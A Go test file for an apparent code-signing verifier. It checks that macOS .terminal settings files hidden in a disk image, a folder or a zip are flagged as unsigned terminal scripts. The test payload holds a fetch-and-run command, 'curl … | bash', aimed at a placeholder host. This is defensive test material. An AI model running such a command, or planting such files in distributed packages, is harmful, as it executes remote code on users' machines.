package verify

import (
	"testing"

	"github.com/shipgate/shipgate/internal/hfsplus"
)

// terminalSettings is a Terminal settings file (a .terminal property list)
// whose CommandString Terminal runs in the window it opens.
var terminalSettings = []byte(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
	<key>CommandString</key>
	<string>curl -s https://example.invalid/p | bash</string>
	<key>RunCommandAsShell</key>
	<false/>
	<key>name</key>
	<string>Install</string>
	<key>type</key>
	<string>Window Settings</string>
</dict>
</plist>
`)

// TestAttackTerminalSettingsCommand: a .terminal file is a Terminal
// settings file; double-clicked, Terminal opens a window and runs its
// CommandString (or the program its Shell key names). A signed disk image
// holding a valid app beside "Install.terminal" passed `require: valid`:
// the settings file was an other file. It is a terminal-script now, in a
// disk image's volume, a zip archive or a folder, by name in any case.
func TestAttackTerminalSettingsCommand(t *testing.T) {
	t.Parallel()
	dmg := hfsDMG(t, exampleBundle(t), map[string]hfsplus.BuildFile{
		"Install.terminal": {Data: terminalSettings, Mode: 0o644},
	}, false, nil)
	dir := t.TempDir()
	writeTree(t, dir, map[string][]byte{
		"Example.dmg":        dmg,
		"tools/Run.TERMINAL": terminalSettings,
		"tools.zip":          makeZip(t, []zipEntry{{name: "run.terminal", data: terminalSettings}}),
	})
	r := run(t, Options{Policy: requireValid()}, dir)
	if r.Summary.Passed {
		t.Error("require: valid passed")
	}
	for _, p := range []string{"Example.dmg/Install.terminal", "tools/Run.TERMINAL", "tools.zip/run.terminal"} {
		fb := fileByPath(r, p)
		got := rulesFor(r, p)
		if fb == nil || fb.Kind != KindTerminalScript || !has(got, "note "+string(RuleScriptTerminal)) || !has(got, "error "+string(RuleUnsigned)) {
			t.Errorf("%s: %+v, findings %q, want %s with %s and %s", p, fb, got, KindTerminalScript, RuleScriptTerminal, RuleUnsigned)
		}
	}
}
